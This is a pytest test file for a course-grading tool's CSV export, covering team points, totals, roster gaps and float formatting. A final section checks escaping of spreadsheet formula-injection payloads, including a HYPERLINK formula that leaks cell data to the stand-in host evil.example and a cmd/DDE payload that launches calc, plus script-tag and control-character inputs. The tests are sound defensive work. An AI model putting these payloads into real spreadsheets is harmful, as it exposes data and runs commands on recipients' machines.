import csv
from pathlib import Path

import pytest

from coursekit.errors import CourseKitError
from coursekit.reports.exporting import format_points, summary_counts, write_grades_csv
from coursekit.records import CellScore
from coursekit.olat.importing import RosterEntry
from coursekit.reports.integrity import Finding
from coursekit.records import TASK_CELLS, TeamResult

# The points of every graded cell in the master notebook; "_test" cells are autograded, the rest free text.
MAX_POINTS = {
    "squeeze_explain": 4, "squeeze_target_test": 6, "bmm_x_shape_test": 3, "bmm_d_test": 5, "bmm_why_d": 4,
    "bmm_context": 4, "embedding_sizes_test": 5, "embedding_purpose": 3, "embedding_args": 3,
    "embedding_out_of_range": 3, "param_count_test": 5, "params_vs_hyperparams": 5, "net_model_test": 12,
    "net_loss_test": 6, "net_task_type": 2, "net_no_output_activation": 3, "net_vocab_size": 1, "net_labels": 2,
    "attention_qk_test": 3, "attention_scores_test": 3, "attention_variance_test": 2, "attention_ratio_meaning": 2,
    "attention_softmax_test": 2, "attention_rows": 2, "attention_likes": 2, "optimizer_choice_test": 4,
    "learning_rate_issues": 4,
}
COLUMNS = ["username", "first_name", "last_name", "email", "team", *TASK_CELLS,
           "autograded", "manual", "total", "max_total", "status", "needs_manual_grading", "team_members"]


def cell_scores(*, scores: dict[str, float], manual_pending: bool) -> tuple[CellScore, ...]:
    """Full marks on every test unless `scores` says otherwise; free text is 0 while its grade is pending."""
    cells = []
    for grade_id, maximum in MAX_POINTS.items():
        pending = manual_pending and not grade_id.endswith("_test")
        default = 0.0 if pending else float(maximum)
        cells.append(CellScore(grade_id, scores.get(grade_id, default), float(maximum), needs_manual_grade=pending))
    return tuple(cells)


def team(team_id, *, status="graded", reason="", cells=(), findings=()) -> TeamResult:
    return TeamResult(team_id=team_id, members=tuple(team_id.split("_")), status=status, reason=reason,
                      origin=f"download.zip/{team_id}_ml_ex2.ipynb", cells=cells, findings=findings)


PAIR = team("anna_ben", cells=cell_scores(
    scores={"bmm_d_test": 0, "net_model_test": 6, "attention_softmax_test": 0}, manual_pending=True))
# Free text already graded by a TA; 0.1 + 0.2 is the float noise grades.csv must not show.
SINGLE = team("carla", cells=cell_scores(
    scores={"bmm_d_test": 0, "squeeze_explain": 2.5, "bmm_why_d": 0.1 + 0.2}, manual_pending=False),
    findings=(Finding("ipython-internals", "net_model", 3, "<script>alert('code')</script>",
                      "the IPython shell"),))
CRASHED = team("dora_emil", status="kernel crashed", reason="<script>alert(1)</script> the kernel died")
OUTSIDER = team("zoe", cells=cell_scores(scores={"bmm_d_test": 0, "net_model_test": 0}, manual_pending=True))
RESULTS = [PAIR, SINGLE, CRASHED, OUTSIDER]
ROSTER = (
    RosterEntry("anna", "Anna", "Muster", "anna@example.org"),
    RosterEntry("ben", "Ben", "Beispiel", "ben@example.org"),
    RosterEntry("carla", "Carla", "Müller, geb. Groß", "carla@example.org"),
    RosterEntry("dora", "Dora", "D", "dora@example.org"),
    RosterEntry("emil", "Emil", "E", "emil@example.org"),
    RosterEntry("fritz", "Fritz", "Fehlt", "fritz@example.org"),
)


def read_rows(path: Path) -> dict[str, dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return {row["username"]: row for row in csv.DictReader(file)}


@pytest.fixture
def grades(tmp_path) -> Path:
    path = tmp_path / "out" / "grades.csv"
    write_grades_csv(results=RESULTS, roster=ROSTER, path=path)
    return path


def test_one_row_per_student_sorted_by_user_name(grades):
    with grades.open(encoding="utf-8", newline="") as file:
        reader = csv.DictReader(file)
        usernames = [row["username"] for row in reader]
        assert reader.fieldnames == COLUMNS
    assert usernames == ["anna", "ben", "carla", "dora", "emil", "fritz", "zoe"]


def test_pair_members_both_get_the_team_points(grades):
    rows = read_rows(grades)
    point_columns = COLUMNS[4:]
    assert rows["anna"]["team"] == rows["ben"]["team"] == "anna_ben"
    assert [rows["anna"][column] for column in point_columns] == [rows["ben"][column] for column in point_columns]
    assert (rows["ben"]["first_name"], rows["ben"]["last_name"], rows["ben"]["email"]) == (
        "Ben", "Beispiel", "ben@example.org")


def test_task_points_and_totals_come_from_the_cells(grades):
    anna = read_rows(grades)["anna"]
    # Tests: everything but bmm_d (0 of 5), net_model (6 of 12), attention_softmax (0 of 2); free text pending.
    # Task 3.2 is free text only: nothing graded yet is empty, not 0.
    assert {task: anna[task] for task in TASK_CELLS} == {
        "Task 1.1": "6", "Task 1.2": "3", "Task 1.3": "5", "Task 2": "5",
        "Task 3.1": "12", "Task 3.2": "", "Task 4": "8", "Task 5": "4",
    }
    assert (anna["autograded"], anna["manual"], anna["total"], anna["max_total"]) == ("43", "0", "43", "100")
    assert (anna["status"], anna["needs_manual_grading"]) == ("graded", "yes")


def test_manual_points_stay_manual_once_graded_and_have_no_float_noise(grades):
    carla = read_rows(grades)["carla"]
    assert carla["Task 1.1"] == "8.5"           # 2.5 + 6
    assert carla["Task 1.2"] == "7.3"           # 3 + 0 + 0.30000000000000004 + 4
    assert (carla["autograded"], carla["manual"], carla["total"]) == ("51", "38.8", "89.8")
    assert carla["needs_manual_grading"] == "no"


def test_failed_team_has_its_status_and_the_assignments_maximum(grades):
    rows = read_rows(grades)
    for member in ("dora", "emil"):
        assert rows[member]["team"] == "dora_emil"
        assert rows[member]["status"] == "kernel crashed"
        assert (rows[member]["total"], rows[member]["max_total"]) == ("0", "100")


def test_roster_student_without_submission_gets_a_zero_row(grades):
    fritz = read_rows(grades)["fritz"]
    assert (fritz["first_name"], fritz["last_name"], fritz["email"]) == ("Fritz", "Fehlt", "fritz@example.org")
    assert (fritz["team"], fritz["status"], fritz["needs_manual_grading"]) == ("", "no submission", "no")
    assert all(fritz[task] == "0" for task in TASK_CELLS)
    assert (fritz["total"], fritz["max_total"]) == ("0", "100")


def test_student_missing_from_the_roster_has_empty_names(grades):
    zoe = read_rows(grades)["zoe"]
    assert (zoe["first_name"], zoe["last_name"], zoe["email"]) == ("", "", "")
    assert (zoe["team"], zoe["total"]) == ("zoe", "39")


def test_csv_is_utf8_with_one_line_per_row(grades):
    lines = grades.read_bytes().decode("utf-8").splitlines()
    assert len(lines) == 1 + 7  # no blank lines from doubled line endings
    # The comma in the last name is quoted, not a column break.
    assert read_rows(grades)["carla"]["last_name"] == "Müller, geb. Groß"


def test_student_in_two_teams_gets_a_row_per_team(tmp_path):
    path = tmp_path / "grades.csv"
    write_grades_csv(results=[PAIR, team("anna_dora", cells=PAIR.cells)], roster=(), path=path)
    with path.open(encoding="utf-8", newline="") as file:
        rows = [(row["username"], row["team"]) for row in csv.DictReader(file)]
    assert rows == [("anna", "anna_ben"), ("anna", "anna_dora"), ("ben", "anna_ben"), ("dora", "anna_dora")]


def test_unwritable_path_is_a_user_error(tmp_path):
    blocker = tmp_path / "a file"
    blocker.write_text("")
    with pytest.raises(CourseKitError, match="cannot write"):
        write_grades_csv(results=RESULTS, roster=ROSTER, path=blocker / "grades.csv")


@pytest.mark.parametrize("points, text", [
    (6.0, "6"), (5.999999, "6"), (0.1 + 0.2, "0.3"), (2.5, "2.5"), (1 / 3, "0.33"), (100.0, "100"), (-0.0, "0"),
])
def test_format_points(points, text):
    assert format_points(points) == text


def test_summary_counts():
    # carla's free text is graded; the crashed team has no cells at all.
    assert summary_counts(results=RESULTS) == {"graded": 3, "partly graded": 1, "failed": 0, "needs manual grading": 2}
    assert summary_counts(results=[]) == {"graded": 0, "partly graded": 0, "failed": 0, "needs manual grading": 0}


# ---------------------------------------------------------------- hostile roster names and team ids

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0",
            "-2+3", "\t=1+1", "\r=1+1", " =1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path, formula):
    roster = (RosterEntry("anna", formula, formula, formula), RosterEntry("ben", "Ben", formula, "b@x"))
    path = tmp_path / "grades.csv"
    write_grades_csv(results=[PAIR], roster=roster, path=path)
    rows = read_rows(path)
    for cell in (rows["anna"]["first_name"], rows["anna"]["last_name"], rows["anna"]["email"],
                 rows["ben"]["last_name"]):
        assert cell.startswith("'") and cell[1:].strip()[:1] in "=+-@"
    # Every cell of the file, header included, is text or a plain number.
    with path.open(encoding="utf-8", newline="") as file:
        for row in csv.reader(file):
            for cell in row:
                assert not cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@")) or _is_number(cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_numbers_stay_numbers_and_control_characters_are_dropped(tmp_path):
    roster = (RosterEntry("anna", "An\x1b[31mna\x00", "Mus\u202eter", "a@x"), RosterEntry("ben", "-", "+", "@"))
    negative = team("anna_ben", cells=(CellScore("bmm_d_test", -1.5, 5.0, False),))
    path = tmp_path / "grades.csv"
    write_grades_csv(results=[negative], roster=roster, path=path)
    rows = read_rows(path)
    assert rows["anna"]["total"] == "-1.5" and rows["anna"]["Task 1.2"] == "-1.5"
    assert (rows["anna"]["first_name"], rows["anna"]["last_name"]) == ("Anna", "Muster")
    assert (rows["ben"]["first_name"], rows["ben"]["last_name"], rows["ben"]["email"]) == ("'-", "'+", "'@")
